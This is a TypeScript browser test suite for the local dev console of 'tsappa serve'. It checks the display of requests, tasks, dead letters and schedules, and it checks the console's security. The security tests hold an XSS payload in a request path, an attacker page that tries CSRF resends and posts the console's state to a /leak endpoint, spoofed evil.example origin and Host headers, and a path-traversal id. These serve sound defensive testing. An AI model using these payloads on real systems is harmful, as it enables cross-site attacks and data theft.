/**
 * The local console of `tsappa serve` (http://127.0.0.1:<port>/_tsappa/), in headless Chromium
 * (test/support/chromium.ts), on the serve-console fixture served by the real bin: requests appear
 * live with their status, duration and logs; a task with its attempts and result; a failing task
 * in the dead letters, sent again by its button; the schedules with their next firing, fired now
 * by theirs. And what keeps others out: a request path holding a script runs nothing, the
 * function's environment is never shown, and a resend is refused from another origin, without the
 * page's token, for an id the console does not hold, or with an event of the caller's own.
 */
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, cpSync, writeFileSync } from 'node:fs';
import { createServer, request, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { describeWithChromium } from './support/chromium.js';
import { Served } from './support/served.js';

const HERE = dirname(fileURLToPath(import.meta.url));
const CLI = join(HERE, '..');
const RUNTIME = join(CLI, '..', 'runtime');
const SECRET = 'console-secret-value-5f3a9c';
const TOKEN_HEADER = 'x-tsappa-console-token';

interface HeldDeadLetter {
  id: string;
  resent: number;
  letter: { id: string | null; name: string };
}

beforeAll(() => {
  if (!existsSync(join(CLI, 'dist', 'serve', 'console', 'console.html'))) throw new Error('build the CLI first: npm run build -w tsappa (the test runs the real bin)');
});

describeWithChromium('the local console of tsappa serve, in Chromium', (chromium) => {
  let dir: string;
  let served: Served;
  let page: Page;
  let origin: string;
  const dialogs: string[] = [];

  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'tsappa-console-'));
    cpSync(join(HERE, 'fixtures', 'serve-console'), dir, { recursive: true });
    mkdirSync(join(dir, 'node_modules', '@tsappa'), { recursive: true });
    symlinkSync(RUNTIME, join(dir, 'node_modules', '@tsappa', 'runtime'), 'dir');
    served = await Served.serve(dir, 'dev', ['--no-watch']).started('dev');
    expect(served.consoleUrl).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/_tsappa\/$/);
    origin = new URL(served.consoleUrl).origin;
    page = await chromium().context.newPage();
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await page.goto(served.consoleUrl);
    await page.locator('#connection', { hasText: 'live' }).waitFor();
  }, 120_000);

  afterAll(async () => {
    expect(await served?.stop()).toBe(0);
    if (dir) rmSync(dir, { recursive: true, force: true });
  }, 30_000);

  /** The status of a GET sent with exactly these headers (fetch sets Host itself). */
  function rawStatus(path: string, headers: Record<string, string>): Promise<number> {
    const { hostname, port } = new URL(origin);
    return new Promise((resolve, reject) => {
      request({ host: hostname, port, path, method: 'GET', headers, setHost: false }, (res) => {
        res.resume();
        resolve(res.statusCode ?? 0);
      })
        .on('error', reject)
        .end();
    });
  }

  /** A request sent as curl sends it; its request id is the row's key. */
  async function send(path: string): Promise<{ status: number; requestId: string; body: Record<string, unknown> }> {
    const res = await fetch(`${served.url}${path}`);
    const text = await res.text();
    return { status: res.status, requestId: res.headers.get('x-amzn-requestid') ?? '', body: text.startsWith('{') ? (JSON.parse(text) as Record<string, unknown>) : {} };
  }

  const row = (table: string, key: string) => page.locator(`#${table} tr[data-key="${key}"]`);

  async function heldDeadLetters(): Promise<HeldDeadLetter[]> {
    const res = await fetch(`${origin}/_tsappa/api/state`);
    return ((await res.json()) as { deadLetters: HeldDeadLetter[] }).deadLetters;
  }

  it('shows each request as it is answered: method, path, status, duration, and its logs on demand', async () => {
    const hello = await send('/hello?n=1');
    expect(hello.status).toBe(200);
    const teapot = await send('/teapot');
    expect(teapot.status).toBe(418);

    const helloRow = row('requests', hello.requestId);
    await helloRow.waitFor();
    expect(await helloRow.locator('.method').textContent()).toBe('GET');
    expect(await helloRow.locator('.path').textContent()).toBe('/dev/hello?n=1');
    expect(await helloRow.locator('.status').textContent()).toBe('200');
    expect(await helloRow.locator('.duration').textContent()).toMatch(/^\d+ ms$/);
    await helloRow.locator('.logs summary').click();
    expect(await helloRow.locator('.logs pre').textContent()).toContain('hello from /hello');

    const teapotRow = row('requests', teapot.requestId);
    await teapotRow.waitFor();
    expect(await teapotRow.locator('.status').textContent()).toBe('418');
    // the newest first
    expect(await page.locator('#requests tr.request').first().getAttribute('data-key')).toBe(teapot.requestId);

    // one the local API Gateway answered itself, with why
    const outside = await fetch(`${origin}/elsewhere`);
    expect(outside.status).toBe(403);
    const outsideRow = row('requests', outside.headers.get('x-amzn-requestid') ?? '');
    await outsideRow.waitFor();
    expect(await outsideRow.locator('.note').textContent()).toBe('not under /dev');
  });

  it('shows a task with its attempts and the result it returned', async () => {
    const add = await send('/add');
    expect(add.status).toBe(202);
    const taskId = add.body.id as string;
    const taskRow = row('tasks', taskId);
    await taskRow.locator('.status', { hasText: 'complete' }).waitFor({ timeout: 20_000 });
    expect(await taskRow.locator('.name').textContent()).toBe('add');
    expect(await taskRow.locator('.attempt').allTextContents()).toEqual([expect.stringMatching(/^1\/3 ok \d+ ms/)]);
    // captureResponse: what add(2, 3) returned
    expect(await taskRow.locator('.result pre').textContent()).toBe('5');
    await taskRow.locator('.attempt summary').click();
    expect(await taskRow.locator('.attempt pre').textContent()).toContain('adding 2 and 3');
  });

  it('puts a task that failed three times in the dead letters; its resend button runs it again', async () => {
    const flag = join(dir, 'flag');
    writeFileSync(flag, 'up');
    const flaky = await send(`/flaky?flag=${encodeURIComponent(flag)}`);
    const taskId = flaky.body.id as string;
    await row('tasks', taskId).locator('.status', { hasText: 'dead-lettered' }).waitFor({ timeout: 20_000 });
    expect(await row('tasks', taskId).locator('.attempt > span').allTextContents()).toEqual([
      expect.stringMatching(/^1\/3 error/),
      expect.stringMatching(/^2\/3 error/),
      expect.stringMatching(/^3\/3 error/),
    ]);
    const letter = page.locator('#dead-letters tr.dead-letter', { hasText: taskId });
    await letter.waitFor();
    expect(await letter.locator('.error').textContent()).toContain(`the flag ${flag} is up (3 attempts)`);
    // the same event went to the dead-letter file
    expect(readFileSync(join(dir, '.tsappa', 'dev-dead-letter.jsonl'), 'utf8')).toContain(taskId);

    rmSync(flag);
    await letter.locator('button.resend').click();
    // sent again through the task queue: a first attempt again, which succeeds this time
    await row('tasks', taskId).locator('.status', { hasText: 'complete' }).waitFor({ timeout: 20_000 });
    expect(await row('tasks', taskId).locator('.attempt > span').last().textContent()).toMatch(/^1\/3 ok/);
    expect(await row('tasks', taskId).locator('.result pre').textContent()).toContain('complete');
    await served.waitFor(new RegExp(`task flaky ${taskId} attempt 1/3 ok`));
    await letter.locator('button.resend', { hasText: 'sent again 1×' }).waitFor();
  });

  it('shows each schedule with its next firing, and fires one now from its button', async () => {
    const next = (await served.waitFor(/schedule tick: next firing (\S+)/))[1] as string;
    const tick = row('schedules', 'tick');
    expect(await tick.locator('.next').getAttribute('data-next')).toBe(next);
    expect(await tick.locator('.next').textContent()).toMatch(new RegExp(`^${next.replace(/\./g, '\\.')} \\(in \\d+ s\\)$`));
    expect(await row('schedules', 'keep-warm').locator('.next').textContent()).toMatch(/^\d{4}-\d\d-\d\dT.*\(in \d+ s\)$/);

    await tick.locator('button.fire').click();
    await tick.locator('.last .ok').waitFor({ timeout: 20_000 });
    await tick.locator('.last summary').click();
    expect(await tick.locator('.last pre').first().textContent()).toContain('tick ran');
    await served.waitFor(/schedule tick cron\(0 12 \* \* \? \*\) ok \d+ms/);
  });

  it('shows a request path holding markup as text: nothing in it runs', async () => {
    const path = '/dev/x<script>window.__xss=1</script><img/src=x/onerror=window.__xss=2><svg/onload=alert(3)>';
    const status = await new Promise<number>((resolve, reject) => {
      const { hostname, port } = new URL(served.url);
      request({ host: hostname, port, path, method: 'GET' }, (res) => {
        res.resume();
        resolve(res.statusCode ?? 0);
      })
        .on('error', reject)
        .end();
    });
    const shown = page.locator('#requests tr.request', { hasText: '<script>window.__xss=1</script>' });
    await shown.waitFor();
    expect(await shown.locator('.path').textContent()).toBe(path);
    expect(await shown.locator('.status').textContent()).toBe(String(status));
    expect(await page.locator('#requests script, #requests img, #requests svg').count()).toBe(0);
    expect(await page.evaluate(() => (globalThis as { __xss?: number }).__xss)).toBeUndefined();
    expect(dialogs).toEqual([]);
  });

  it("never shows the function's environment or credentials", async () => {
    const state = await (await fetch(`${origin}/_tsappa/api/state`)).text();
    const html = await page.content();
    for (const text of [state, html]) {
      expect(text).not.toContain(SECRET);
      expect(text).not.toContain('ASIALOCALTSAPPASERVE');
    }
  });

  it('refuses a resend from a page on another origin (fetch and form), and without the page token', async () => {
    const [held] = await heldDeadLetters();
    expect(held).toBeDefined();
    const before = held!.resent;
    const resendUrl = `${origin}/_tsappa/api/dead-letters/${held!.id}/resend`;
    const token = (await page.locator('meta[name="tsappa-console-token"]').getAttribute('content')) ?? '';
    expect(token).toMatch(/^[0-9a-f]{48}$/);

    // another origin: the same host on another port, as any page the user has open could be; it
    // also tries to read the console's history and token and send them home
    const leaked: string[] = [];
    const evil: Server = createServer((req, res) => {
      if (req.url === '/leak') {
        req.on('data', (chunk: Buffer) => leaked.push(chunk.toString()));
        return void res.writeHead(204).end();
      }
      res.writeHead(200, { 'content-type': 'text/html' }).end(`<!doctype html>
<form id="f" method="POST" action="${resendUrl}"></form>
<script>
  const leak = (text) => fetch('/leak', { method: 'POST', body: String(text) });
  fetch(${JSON.stringify(resendUrl)}, { method: 'POST', mode: 'no-cors' }).catch(() => {});
  fetch(${JSON.stringify(resendUrl)}, { method: 'POST', headers: { ${JSON.stringify(TOKEN_HEADER)}: 'guessed' } }).catch(() => {});
  fetch(${JSON.stringify(`${origin}/_tsappa/api/state`)}).then((r) => r.text()).then(leak, () => {});
  fetch(${JSON.stringify(served.consoleUrl)}).then((r) => r.text()).then(leak, () => {});
  new EventSource(${JSON.stringify(`${origin}/_tsappa/api/events`)}).addEventListener('snapshot', (e) => leak(e.data));
  setTimeout(() => document.getElementById('f').submit(), 1500);
</script>`);
    });
    await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
    const evilPage = await chromium().context.newPage();
    try {
      await evilPage.goto(`http://127.0.0.1:${(evil.address() as AddressInfo).port}/`);
      await evilPage.waitForURL(resendUrl, { timeout: 10_000 });
      expect(await evilPage.content()).toContain('another origin');
      expect(leaked).toEqual([]);
    } finally {
      await evilPage.close();
      evil.closeAllConnections();
      await new Promise((resolve) => evil.close(resolve));
    }

    // a stolen token does not help from another origin or site; no token does not either
    const post = (headers: Record<string, string>) => fetch(resendUrl, { method: 'POST', headers });
    expect((await post({ [TOKEN_HEADER]: token, origin: 'http://evil.example' })).status).toBe(403);
    expect((await post({ [TOKEN_HEADER]: token, 'sec-fetch-site': 'cross-site' })).status).toBe(403);
    expect((await post({})).status).toBe(403);
    expect((await post({ [TOKEN_HEADER]: 'f'.repeat(48) })).status).toBe(403);
    // a name other than this machine's (DNS rebinding) gets nothing, not even the history
    expect(await rawStatus('/_tsappa/api/state', { host: `evil.example:${new URL(origin).port}` })).toBe(403);
    expect(await rawStatus('/_tsappa/', { host: 'evil.example' })).toBe(403);
    expect(await rawStatus('/_tsappa/api/state', { host: new URL(origin).host })).toBe(200);

    await new Promise((r) => setTimeout(r, 500));
    expect((await heldDeadLetters()).find((d) => d.id === held!.id)?.resent).toBe(before);
  });

  it('is not served when serve listens beyond this machine (--host 0.0.0.0)', async () => {
    const wide = await Served.serve(dir, 'dev', ['--no-watch', '--no-schedules', '--host', '0.0.0.0']).started('dev');
    try {
      expect(wide.consoleUrl).toBe('');
      expect(wide.output).toContain('the console is served only on a loopback host (127.0.0.1, localhost or ::1), not on 0.0.0.0');
      // /_tsappa/ is then what API Gateway answers outside the stage
      const res = await fetch(`${new URL(wide.url).origin}/_tsappa/`);
      expect(res.status).toBe(403);
      expect(await res.text()).toContain('Missing Authentication Token');
    } finally {
      expect(await wide.stop()).toBe(0);
    }
  }, 120_000);

  it('resends only the events it holds: an unknown id is refused and a body is never sent', async () => {
    const token = (await page.locator('meta[name="tsappa-console-token"]').getAttribute('content')) ?? '';
    const headers = { [TOKEN_HEADER]: token, 'content-type': 'application/json' };
    const injected = { 'tsappa:task': { id: 'injected-task-id', name: 'add', args: [40, 2] } };
    const invocations = () => (served.output.match(/ task \S+ \S+ attempt /g) ?? []).length;
    const count = invocations();

    const unknown = await fetch(`${origin}/_tsappa/api/dead-letters/not-held/resend`, { method: 'POST', headers, body: JSON.stringify(injected) });
    expect(unknown.status).toBe(404);
    const traversal = await fetch(`${origin}/_tsappa/api/dead-letters/..%2F..%2Fstate/resend`, { method: 'POST', headers, body: JSON.stringify(injected) });
    expect(traversal.status).toBe(404);

    // a held id with an event in the body: the held event is sent, the body is ignored
    const [held] = await heldDeadLetters();
    const resent = await fetch(`${origin}/_tsappa/api/dead-letters/${held!.id}/resend`, { method: 'POST', headers, body: JSON.stringify(injected) });
    expect(resent.status).toBe(202);
    await served.waitFor(new RegExp(`task ${held!.letter.name} ${held!.letter.id ?? ''}\\S* attempt 1/3 ok[\\s\\S]*task ${held!.letter.name} ${held!.letter.id ?? ''}\\S* attempt 1/3 ok`));
    await new Promise((r) => setTimeout(r, 1000));
    expect(served.output).not.toContain('injected-task-id');
    expect(invocations()).toBe(count + 1);
  });
});
